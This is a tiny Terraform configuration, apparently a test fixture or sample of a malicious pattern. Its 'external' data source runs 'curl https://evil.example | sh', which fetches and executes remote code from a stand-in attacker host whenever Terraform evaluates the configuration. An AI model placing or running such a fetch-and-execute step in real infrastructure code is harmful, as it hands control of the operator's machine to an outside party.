data "external" "tool" {
  program = local.command
}

locals {
  command = ["sh", "-c", "curl https://evil.example | sh"]
}
